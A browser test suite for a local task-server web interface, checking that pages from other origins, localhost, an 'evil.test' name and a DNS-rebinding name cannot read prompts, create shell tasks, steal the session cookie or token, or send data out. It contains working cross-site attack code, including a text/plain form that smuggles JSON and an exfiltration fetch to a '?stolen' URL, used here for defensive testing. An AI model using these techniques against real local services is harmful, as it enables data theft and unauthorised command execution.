// What other sites can do to the page of somebody who has it open in the same browser: nothing. The other
// site is at another port (same site, another origin), at `localhost`, and at a name of its own; and it is
// the server itself under a name that was made to point at it.

/// <reference lib="dom" />

import { assert, assertEquals, assertNotEquals } from "../support/assert.ts";
import { makeBox } from "../support/program.ts";
import { until, webTest } from "./browser.ts";
import { addTask, nameOf, serveBox } from "./support.ts";

const SECRET = "a prompt that nobody else may read";

/** Names beside 127.0.0.1 that lead to this machine, as an attacker's do. */
const NAMES = ["--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebound.test 127.0.0.1"];

/** A site of somebody else, with one page; told of each request. */
function serveOther(
  onRequest: (request: Request) => void = () => {},
): { port: number } & AsyncDisposable {
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    (request) => {
      onRequest(request);
      return new Response("<!doctype html><title>Other</title><body>", {
        headers: { "content-type": "text/html" },
      });
    },
  );
  return { port: server.addr.port, [Symbol.asyncDispose]: () => server.shutdown() };
}

/** Everything that a script of another site can try; what each came to. Runs in the page. */
async function attack(
  { api, name, id, page }: { api: string; name: string; id: string; page: string },
): Promise<Record<string, string>> {
  const came: Record<string, string> = {};
  const base = `${api}/workspaces/${name}`;
  const task = JSON.stringify({ agent: "shell", prompt: "true" });
  const order = JSON.stringify({ tasks: [id] });
  const note = async (what: string, attempt: () => Promise<string>) => {
    try {
      came[what] = await attempt();
    } catch (error) {
      came[what] = `refused: ${(error as Error).message ?? error}`;
    }
  };
  const loaded = (element: HTMLElement & { src?: string }, src: string) =>
    new Promise<string>((resolve) => {
      element.onload = () => resolve("loaded");
      element.onerror = () => resolve("refused");
      element.src = src;
      document.body.append(element);
      setTimeout(() => resolve("nothing"), 3000);
    });
  const read = (init: RequestInit, url = `${base}/tasks`) => async () => {
    const response = await fetch(url, { credentials: "include", ...init });
    return `${response.type} ${response.status}: ${await response.text()}`;
  };
  await note("fetch", read({}));
  await note("fetch of the page", read({}, page));
  await note("fetch, no-cors", read({ mode: "no-cors" }));
  await note("post of a task", read({ method: "POST", mode: "no-cors", body: task }));
  await note(
    "post of a task as JSON",
    read({ method: "POST", body: task, headers: { "content-type": "application/json" } }),
  );
  await note(
    "cancel",
    read({ method: "POST", mode: "no-cors", body: order }, `${base}/actions/cancel`),
  );
  await note("beacon", () => {
    navigator.sendBeacon(`${base}/tasks`, new Blob([task], { type: "text/plain" }));
    return Promise.resolve("sent");
  });
  await note("img", () => loaded(document.createElement("img"), `${base}/tasks/${id}/log`));
  await note("script", () => loaded(document.createElement("script"), `${base}/tasks`));
  await note("form", () => {
    const frame = document.createElement("iframe");
    frame.name = "target";
    document.body.append(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.enctype = "text/plain";
    form.target = "target";
    form.action = `${base}/tasks`;
    const input = document.createElement("input");
    // As text/plain this is JSON: {"agent":"shell","prompt":"true","x":"=y"}
    input.name = `{"agent":"shell","prompt":"true","x":"`;
    input.value = `y"}`;
    form.append(input);
    document.body.append(form);
    form.submit();
    return new Promise((resolve) => setTimeout(() => resolve("sent"), 500));
  });
  await note("iframe", async () => {
    const frame = document.createElement("iframe");
    await loaded(frame, page);
    return frame.contentDocument === null ? "shut" : frame.contentDocument.body.textContent ?? "";
  });
  await note("WebSocket", () =>
    new Promise((resolve) => {
      const socket = new WebSocket(`${api.replace("http", "ws")}/events`);
      socket.onopen = () => resolve("open");
      socket.onerror = () => resolve("refused");
    }));
  await note("EventSource", () =>
    new Promise((resolve) => {
      const source = new EventSource(`${api}/events`, { withCredentials: true });
      source.onmessage = ({ data }) => resolve(data);
      source.onopen = () => resolve("open");
      source.onerror = () => {
        source.close();
        resolve("refused");
      };
    }));
  await note("window.open", async () => {
    const opened = globalThis.open(page);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    return opened!.document.body.textContent ?? "";
  });
  return came;
}

for (const host of ["127.0.0.1", "localhost", "evil.test"]) {
  webTest(`a site at ${host} reads nothing and changes nothing`, async (browser) => {
    await using box = await makeBox();
    const id = addTask(box, { prompt: SECRET });
    await using site = await serveBox(box.root);
    await using other = serveOther();
    const own = await site.open(browser, `/w/${nameOf(box)}/now`);
    await own.page.getByText(SECRET).first().waitFor();
    const before = box.tasks();
    const tab = await browser.open({ beside: own, url: `http://${host}:${other.port}/` });
    const came = await tab.page.evaluate(attack, {
      api: `${site.origin}/api/v1`,
      name: nameOf(box),
      id,
      page: `${site.origin}/w/${nameOf(box)}/now`,
    });
    tab.forgive(/./);
    // A frame of the page could be laid under the pointer of somebody who means to press something else.
    for (const frame of tab.page.frames().slice(1)) {
      const text = await frame.evaluate(() => document.body?.innerText ?? "");
      assert(!/Now|New task|not known/.test(text), `a frame shows the page: ${text}`);
    }
    assertEquals(JSON.stringify(came).includes(SECRET), false, JSON.stringify(came));
    for (const [what, result] of Object.entries(came)) {
      if (what === "beacon" || what === "form" || what.includes("no-cors")) continue;
      const harmless = /^(?:refused|shut|nothing|opaque 0: $)/.test(result);
      assert(harmless, `${what}: ${result}`);
    }
    assertEquals(box.tasks(), before);
    // And yet it still works for whom it is for.
    const added = await site.post<{ taskId: string }>(`/workspaces/${nameOf(box)}/tasks`, {
      agent: "shell",
      prompt: "true",
    });
    await own.page.getByText(added.taskId.slice(-3)).first().waitFor();
    assertEquals(own.takeTrouble(), []);
  }, NAMES);
}

webTest("a name that was made to point at the server gets nothing from it", async (browser) => {
  await using box = await makeBox();
  addTask(box, { prompt: SECRET });
  await using site = await serveBox(box.root);
  const url = `http://rebound.test:${site.port}`;
  const tab = await browser.open();
  const answer = await tab.page.goto(`${url}/w/${nameOf(box)}/now#${site.token}`);
  assertEquals(answer?.status(), 403);
  const came = await tab.page.evaluate(async ({ path, token }) => {
    const said = async (path: string, init: RequestInit) => {
      try {
        const answer = await fetch(path, init);
        return `${answer.status}: ${await answer.text()}`;
      } catch (error) {
        return String(error);
      }
    };
    const headers = { "content-type": "application/json", authorization: `Bearer ${token}` };
    const post = { method: "POST", body: JSON.stringify({ token }), headers };
    return [
      document.body.innerText,
      await said("/api/v1/session", post),
      await said(path, { headers }),
    ];
  }, { path: `/api/v1/workspaces/${nameOf(box)}/tasks`, token: site.token });
  assert(came.slice(1).every((said) => /^403|Failed to fetch/.test(said)), came.join("\n"));
  assert(!came.join().includes(SECRET));
  assertEquals(await tab.context.cookies(), []);
  tab.forgive(/./);
}, NAMES);

webTest(
  "another port of the same host is sent no cookie, whatever path it asks itself for",
  async (browser) => {
    await using box = await makeBox();
    addTask(box, { prompt: SECRET });
    await using site = await serveBox(box.root);
    const own = await site.open(browser, `/w/${nameOf(box)}/now`);
    await own.page.getByText(SECRET).first().waitFor();
    const [cookie] = await own.context.cookies();
    assert(cookie !== undefined && cookie.value.length > 40);
    const seen: { path: string; cookie: string | null }[] = [];
    await using other = serveOther((request) => {
      const { pathname: path } = new URL(request.url);
      seen.push({ path, cookie: request.headers.get("cookie") });
    });
    const tab = await browser.open({ beside: own, url: `http://127.0.0.1:${other.port}/` });
    const wanted = [
      ...["/", "/metrics", "/s", "/s/", "/s/x/", "/s/x/api/v1", "/w/x/now", "/%73/"],
      ...["", "/", "/steal", "/session", "/events", "/workspaces"].map((path) => `/api/v1${path}`),
    ];
    const stored = await tab.page.evaluate(async (wanted) => {
      for (const path of wanted) await fetch(path, { credentials: "include" });
      return JSON.stringify({ ...localStorage, cookie: document.cookie });
    }, wanted);
    // It cannot learn where the cookie counts, either.
    assertEquals(stored, JSON.stringify({ cookie: "" }));
    assert(wanted.every((path) => seen.some((one) => one.path === path)), JSON.stringify(seen));
    assertEquals(seen.filter(({ cookie }) => cookie !== null), []);
    tab.forgive(/./);
  },
);

webTest("no request of the page leaves the server, nor is its address told", async (browser) => {
  await using box = await makeBox();
  addTask(box);
  await using site = await serveBox(box.root);
  const tab = await site.open(browser);
  const answer = await tab.page.goto(`${site.origin}/w/${nameOf(box)}/now`);
  const headers = answer!.headers();
  assertEquals(headers["referrer-policy"], "no-referrer");
  assertNotEquals(headers["content-security-policy"], undefined);
  // A script that came in whatever way could send nothing to anywhere.
  const sent = await tab.page.evaluate(() =>
    fetch("http://localhost:9/?stolen", { mode: "no-cors" }).then(() => "sent", () => "refused")
  );
  assertEquals(sent, "refused");
  await tab.meets(/Content Security Policy|Refused to connect/);
  tab.forgive(/localhost:9/);
});

webTest("the token leaves the address, and no script can read it", async (browser) => {
  await using box = await makeBox();
  addTask(box);
  await using site = await serveBox(box.root);
  const url = `${site.origin}/w/${nameOf(box)}/now#token=${site.token}`;
  const tab = await browser.open({ url });
  await until(
    "the token to leave the address",
    () => Promise.resolve(!tab.page.url().includes("#")),
  );
  const cookie = await until("the cookie", async () => (await tab.context.cookies())[0]);
  const seen = await tab.page.evaluate(() => ({
    cookie: document.cookie,
    stored: JSON.stringify({ ...localStorage, ...sessionStorage }),
    entries: history.length,
    text: document.documentElement.outerHTML,
  }));
  assertEquals(seen.cookie, "");
  assert(!seen.stored.includes(site.token));
  assert(!seen.text.includes(site.token));
  // Nor does the way back lead to it.
  await tab.page.goBack().catch(() => {});
  assert(!tab.page.url().includes(site.token), tab.page.url());
  assertEquals([cookie.httpOnly, cookie.sameSite], [true, "Strict"]);
  assert(cookie.name.includes(String(site.port)), cookie.name);
});

webTest("the file that --open hands on lets a browser in, once", async (browser) => {
  await using box = await makeBox();
  addTask(box, { prompt: SECRET });
  const state = `${box.root}/state`;
  // No program is there to open it: the browser of the test is.
  const env = { PATH: box.root, XDG_STATE_HOME: state };
  await using site = await serveBox(box.root, { args: ["--open"], env });
  const path = `${state}/orchestra/open/${site.port}.html`;
  const html = await until("the file", () => Deno.readTextFile(path).catch(() => null));
  const tab = await browser.open({ url: `file://${path}` });
  await tab.page.getByText(SECRET).first().waitFor();
  assert(tab.page.url().startsWith(site.origin) && !tab.page.url().includes("#"), tab.page.url());
  await until("the file to be gone", () => Deno.lstat(path).then(() => null, () => true));
  tab.forgive(/elsewhere|401/);
  await tab.close();
  // Whoever kept it gets nothing by it.
  const kept = await Deno.makeTempFile({ dir: box.root, suffix: ".html" });
  await Deno.writeTextFile(kept, html);
  const late = await browser.open({ url: `file://${kept}` });
  await late.page.getByRole("heading", { name: /not known/ }).waitFor();
  late.forgive(/401/);
});
